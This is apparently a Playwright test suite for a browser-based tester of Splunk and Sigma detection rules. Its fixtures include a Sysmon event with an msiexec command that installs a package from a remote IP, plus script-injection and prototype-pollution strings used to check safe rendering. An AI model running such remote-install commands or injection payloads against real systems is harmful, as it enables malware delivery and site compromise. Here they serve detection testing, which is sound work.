import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import AxeBuilder from '@axe-core/playwright';
import { expect, type Page, test } from '@playwright/test';
import { encodeShared } from '../components/tester/share.ts';

const RECORDED = fileURLToPath(new URL('../../shared/events/sigma_regression', import.meta.url));
const PAGE = '/detections/windows-msiexec-package-from-remote-url/';

async function open(page: Page, path = PAGE): Promise<void> {
  await page.goto(path);
  await page.getByRole('button', { name: 'Try it' }).click();
  await expect(page.locator('.verdict')).toContainText(/Matches \d/);
}

async function violations(page: Page, inside = '#try'): Promise<string[]> {
  const found = await new AxeBuilder({ page }).include(inside).analyze();
  return found.violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`);
}

/** A log of the reader's, dropped where the page says. */
async function useLog(page: Page, name: string, body: Buffer | string): Promise<void> {
  const summary = page.locator('.own-log > summary');
  if (!(await page.locator('.own-log').evaluate((element) => (element as HTMLDetailsElement).open)))
    await summary.click();
  await page
    .getByLabel('Log files')
    .setInputFiles({ name, mimeType: 'application/octet-stream', buffer: Buffer.from(body) });
}

test.beforeEach(async ({ page }) => {
  // Nothing leaves the machine, whatever is opened.
  await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
    throw new Error(`A request left the origin: ${route.request().url()}`);
  });
});

test('loads nothing of the tester before it is wanted', async ({ page }) => {
  const before: string[] = [];
  page.on('request', (request) => before.push(request.url()));
  await page.goto(PAGE);
  await page.waitForLoadState('networkidle');
  expect(
    before.filter((url) => /tester|chunk-|worker/.test(url) && !/site|detection-/.test(url)).length,
  ).toBeLessThan(4);
  expect(before.some((url) => url.includes('tester.json') || url.includes('tester-worker'))).toBe(false);
});

test('fetches for a search what it needs: little, and nothing of other languages', async ({ page }) => {
  const scripts: Promise<Buffer>[] = [];
  page.on('response', (response) => {
    if (response.url().endsWith('.js')) scripts.push(response.body());
  });
  await open(page);
  const fetched = await Promise.all(scripts);
  const gzip = fetched.reduce((sum, script) => sum + gzipSync(script, { level: 9 }).length, 0);
  expect(gzip).toBeGreaterThan(50_000);
  expect(gzip).toBeLessThanOrEqual(95_500);
  // A word of the Sigma reader's messages.
  expect(fetched.filter((script) => script.includes('sigma-not-a-rule'))).toEqual([]);
});

test('says where a part cannot be loaded, and lives on', async ({ page }) => {
  await open(page);
  await page.route('**/assets/chunk-*.js', (route) => route.abort());
  await page.getByRole('tab', { name: /Stages/ }).click();
  await expect(page.getByRole('tabpanel').getByRole('alert')).toContainText('could not be loaded');
  await page.getByRole('tab', { name: /Events/ }).click();
  await expect(page.getByRole('table', { name: 'Events' })).toBeVisible();
});

test('says what the samples gave, and why each event matched or did not', async ({ page }) => {
  await open(page);
  await expect(page.locator('.verdict [role="status"]')).toContainText(/as “.+” expects/);
  await page.locator('.dot.hit').first().click();
  const panel = page.locator('section.event');
  await expect(panel.getByRole('heading', { level: 3 })).toContainText('why it matches');
  await expect(panel).toContainText('msiexec.exe');
  await page.locator('.dot:not(.hit)').first().click();
  await expect(panel.getByRole('heading', { level: 3 })).toContainText('why not');
  await expect(panel.locator('.clauses .bad').first()).toBeVisible();
  await expect(panel.locator('p.fail code')).toHaveText('tstats');
  await page.locator('.events tbody tr').nth(1).getByRole('cell').last().click();
  await expect(panel).toHaveAccessibleName('Event 2');
  expect(await violations(page)).toEqual([]);
});

test('every view has its content, by keyboard alone', async ({ page }) => {
  await page.goto(PAGE);
  await page.getByRole('button', { name: 'Try it' }).focus();
  await page.keyboard.press('Enter');
  const tab = page.getByRole('tab', { name: /Events/ });
  await expect(tab).toBeVisible();
  await expect(page.locator('.verdict')).toContainText(/Matches/);
  await tab.focus();
  await page.keyboard.press('ArrowRight');
  await expect(page.getByRole('tab', { name: /Stages/ })).toBeFocused();
  await page.getByRole('button', { name: /Rows behind stage 1/ }).focus();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { name: 'Rows behind stage 1' })).toBeVisible();
  await page.getByRole('tab', { name: /Stages/ }).focus();
  await page.keyboard.press('ArrowRight');
  await expect(page.getByRole('table', { name: 'Rows' })).toBeVisible();
  await page.getByRole('tab', { name: /Results/ }).focus();
  await page.keyboard.press('ArrowRight');
  await expect(page.locator('.risk-row').first()).toContainText(/Risk object/);
  expect(await violations(page)).toEqual([]);
});

test('an edited search runs as it is typed; it can be reset and compared', async ({ page }) => {
  await open(page);
  await page.getByRole('button', { name: 'Edit the search' }).click();
  const editor = page.locator('.code-editor .cm-content');
  await editor.click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type(' | where count > 1000');
  await expect(page.getByRole('tab', { name: 'Results 0' })).toBeVisible();
  await page.getByRole('button', { name: 'Compare with the published one' }).click();
  await expect(page.locator('.diff .added')).toContainText('where count > 1000');
  await page.keyboard.press('Escape');
  await editor.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await expect(page.locator('.verdict [role="status"]')).toHaveText('Write a rule: it runs as you type.');
  await page.getByRole('button', { name: 'Reset' }).click();
  await expect(page.locator('.verdict')).toContainText(/expects/);
  await editor.click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type(' | statz count');
  await expect(page.locator('.diagnostics')).toContainText('statz');
  await expect(page.locator('.verdict .fail')).toBeVisible();
});

test('completes commands, and fields that the events have', async ({ page }) => {
  await open(page);
  await page.getByRole('button', { name: 'Edit the search' }).click();
  await page.locator('.code-editor .cm-content').click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type('\n| eventst');
  await expect(page.locator('.cm-tooltip-autocomplete')).toContainText('eventstats');
  await page.keyboard.press('Enter');
  await page.keyboard.type(' count by parent_proc');
  await expect(page.locator('.cm-tooltip-autocomplete')).toContainText('parent_process');
});

test('an evasion shows what it does to the verdict, and is taken back', async ({ page }) => {
  await open(page);
  const hits = await page.locator('.dot.hit').count();
  await page.locator('.dot.hit').first().click();
  await page.getByRole('button', { name: 'Change letter case' }).click();
  await expect(page.locator('table[aria-label="Events"]')).toContainText('edited');
  // Splunk compares without case: the rule must still match.
  await expect(page.locator('.dot.hit')).toHaveCount(hits);
  await page.getByRole('button', { name: 'Undo the last change' }).click();
  await expect(page.locator('table[aria-label="Events"]')).not.toContainText('edited');
  await page.getByText('Edit its fields').click();
  const json = page.getByLabel(/as JSON/);
  const fields = JSON.parse(await json.inputValue());
  await json.fill(JSON.stringify({ sourcetype: fields.sourcetype, _time: fields._time }));
  await expect(page.locator('.dot.hit')).toHaveCount(hits - 1);
  await json.fill('{ "broken": ');
  await expect(page.locator('.event details .fail')).toContainText('Not JSON yet');
});

test('a link carries the search and the events, and no server sees them', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await open(page);
  await page.getByRole('button', { name: 'Edit the search' }).click();
  await page.locator('.code-editor .cm-content').click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type(' | head 1');
  await page.locator('.dot').first().click();
  await page.getByRole('button', { name: 'Duplicate' }).click();
  await expect(page.locator('.verdict')).toContainText(/of \d+ events/);
  const said = await page.locator('.verdict [role="status"]').textContent();
  await page.getByRole('button', { name: 'Copy a link' }).click();
  await expect(page.locator('.share output')).toContainText('Link copied');
  const link = await page.evaluate(() => navigator.clipboard.readText());
  const other = await context.newPage();
  const asked: string[] = [];
  other.on('request', (request) => asked.push(request.url()));
  await other.goto(link);
  await expect(other.locator('.verdict [role="status"]')).toContainText(
    said!
      .split('.')[0]!
      .replace(/^[✓✗] /, '')
      .split(',')[0]!,
  );
  await expect(other.locator('.code-editor .cm-content')).toContainText('head 1');
  expect(asked.some((url) => url.includes('#') || url.includes('try='))).toBe(false);
});

test('a further link is opened where a tester is open already', async ({ page }) => {
  const link = async (search: string) =>
    `#try=${await encodeShared({ v: 1, language: 'spl', search, events: [{ a: '1' }, { a: '2' }] })}`;
  for (const path of [PAGE, '/tester/']) {
    await page.goto(path + (await link('a=1')));
    await expect(page.locator('.code-editor .cm-content')).toContainText('a=1');
    await expect(page.locator('.verdict')).toContainText('Matches 1 of 2 events');
    await page.goto(path + (await link('a=* | head 7')));
    await expect(page.locator('.code-editor .cm-content')).toContainText('head 7');
    await expect(page.locator('.verdict')).toContainText('Matches 2 of 2 events');
  }
});

test('exports the case as a test with its sample', async ({ page }) => {
  await open(page);
  const [saved] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Export as a test' }).click(),
  ]);
  const { unzipSync, strFromU8 } = await import('fflate');
  const files = unzipSync(readFileSync((await saved.path())!));
  const names = Object.keys(files).sort();
  expect(names).toHaveLength(2);
  const yaml = strFromU8(files[names.find((name) => name.endsWith('.yml'))!]!);
  const sample = names.find((name) => name.endsWith('.ndjson'))!;
  expect(yaml).toContain(`data: ${sample}`);
  expect(yaml).toMatch(/expected_results: \d+/);
  expect(
    strFromU8(files[sample]!)
      .trim()
      .split('\n')
      .every((line) => JSON.parse(line).sourcetype),
  ).toBe(true);
});

const SYSMON = (command: string) =>
  `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws1.example.com</Computer><TimeCreated SystemTime='2026-09-30T12:00:00.000Z'/></System><EventData><Data Name='Image'>C:\\Windows\\System32\\msiexec.exe</Data><Data Name='CommandLine'>${command}</Data><Data Name='OriginalFileName'>msiexec.exe</Data><Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='ParentCommandLine'>cmd.exe</Data><Data Name='User'>EX\\anna</Data><Data Name='ProcessId'>42</Data></EventData></Event>`;

test('runs over the reader’s own XML and CSV, and says what it could not read', async ({ page }) => {
  await open(page);
  await useLog(
    page,
    'sysmon.xml',
    `${SYSMON('msiexec.exe /q /i http://203.0.113.9/a.msi')}\n${SYSMON('msiexec.exe /i local.msi')}`,
  );
  await expect(page.locator('.verdict')).toContainText('Matches 1 of 2 events');
  await useLog(
    page,
    'events.csv',
    'sourcetype,source,host,_time,process_name,process\nXmlWinEventLog,XmlWinEventLog:Security,ws1,1790000000,cmd.exe,cmd /c dir\n',
  );
  await expect(page.locator('.verdict')).toContainText('of 1 event');
  await useLog(page, 'broken.ndjson', '{"a": 1}\n{"a": \n');
  await expect(page.locator('.verdict')).toContainText(/of \d event/);
  await expect(page.locator('.verdict details')).toContainText('broken.ndjson');
});

test('reads a binary .evtx', async ({ page }) => {
  test.skip(!existsSync(RECORDED), 'no recorded events lie at ../shared/events');
  const log = readdirSync(RECORDED, { recursive: true, encoding: 'utf8' }).find((file) =>
    file.endsWith('.evtx'),
  )!;
  await open(page);
  await useLog(page, 'recorded.evtx', readFileSync(join(RECORDED, log)));
  await expect(page.locator('.verdict')).toContainText(/Matches \d+ of \d+ event/);
  await expect(page.locator('table[aria-label="Events"] tbody tr').first()).toBeVisible();
});

test('HTML and odd names in a log are text', async ({ page }) => {
  await open(page);
  const problems: string[] = [];
  page.on('pageerror', (error) => problems.push(String(error)));
  page.on('dialog', () => problems.push('a dialog opened'));
  await useLog(
    page,
    'odd.ndjson',
    `${JSON.stringify({ __proto__x: 1, constructor: '<img src=x onerror=alert(1)>', ['__proto__']: '<script>alert(1)</script>', process: '<b>bold</b>' })}\n{"__proto__": "p", "toString": "t"}\n`,
  );
  await expect(page.locator('.verdict')).toContainText('of 2 events');
  await page.locator('.dot').first().click();
  await expect(page.locator('section.event')).toContainText('<img src=x onerror=alert(1)>');
  expect(await page.locator('section.event img').count()).toBe(0);
  expect(problems).toEqual([]);
});

test('a run that goes on for ever is ended, and the tester lives on', async ({ page }) => {
  await page.goto('/tester/');
  await expect(page.locator('.tester')).toBeVisible();
  await page.evaluate(() => {
    // The worker is swallowed by a loop, as by a fault of the engine: only ending it helps.
    const { prototype } = Worker as unknown as { prototype: { postMessage: (message: unknown) => void } };
    const post = prototype.postMessage;
    let first = true;
    prototype.postMessage = function (this: Worker, message: unknown) {
      if (first && (message as { method?: string }).method === 'run') {
        first = false;
        return;
      }
      post.call(this, message);
    };
  });
  await useLog(page, 'a.ndjson', '{"a": 1}\n{"a": 2}\n');
  await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(page.locator('.verdict .fail')).toContainText('It was stopped.');
  await page.locator('.code-editor .cm-content').click();
  await page.keyboard.press('Control+A');
  await page.keyboard.type('a=2');
  await expect(page.locator('.verdict')).toContainText('Matches 1 of 2 events');
});

test('a run whose rows need more memory than a page has is stopped, and the next one runs', async ({
  page,
}) => {
  test.setTimeout(90_000);
  await page.goto('/tester/');
  await useLog(page, 'a.ndjson', '{"a": 1}\n{"a": 2}\n');
  await expect(page.locator('.verdict')).toContainText('Matches 2 of 2 events');
  await page.locator('.code-editor .cm-content').click();
  await page.keyboard.press('Control+A');
  // Two hundred thousand rows of texts, each some hundreds of characters and another in every row.
  await page.keyboard.insertText(
    `a=* | eval r=mvrange(0,100000) | mvexpand r | eval s="${'x'.repeat(64)}".a.r | eval t=s.s.s.s.s.s.s.s, u=t.t, v=u.u, w=v.v`,
  );
  await expect(page.locator('.verdict .fail')).toContainText('need more than 1024 MiB', { timeout: 60_000 });
  await page.locator('.code-editor .cm-content').click();
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText('a=2');
  await expect(page.locator('.verdict')).toContainText('Matches 1 of 2 events');
});

test('the workbench keeps its tabs, opens a detection, and runs every language', async ({ page }) => {
  await page.goto('/tester/?rule=windows-msiexec-package-from-remote-url');
  await expect(page.locator('.verdict')).toContainText(/expects/);
  await page.getByRole('button', { name: 'New tab' }).click();
  await page.getByLabel('Language').selectOption('sigma');
  await page.locator('.code-editor .cm-content').click();
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText(
    'title: Msiexec\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  selection:\n    Image|endswith: \\msiexec.exe\n  condition: selection\n',
  );
  await useLog(page, 'sysmon.xml', SYSMON('msiexec.exe /i http://203.0.113.9/a.msi'));
  await expect(page.locator('.verdict')).toContainText('Matches 1 of 1 event');
  await page.locator('.dot').first().click();
  await expect(page.locator('section.event .clauses')).toContainText('Image');
  await page.reload();
  await expect(page.locator('.bench-tab')).toHaveCount(2);
  expect(await violations(page, '[data-workbench]')).toEqual([]);
});

test('fits a phone', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await open(page);
  await page.locator('.dot').first().click();
  await expect(page.locator('section.event')).toBeVisible();
  expect(
    await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth),
  ).toBeLessThanOrEqual(0);
});
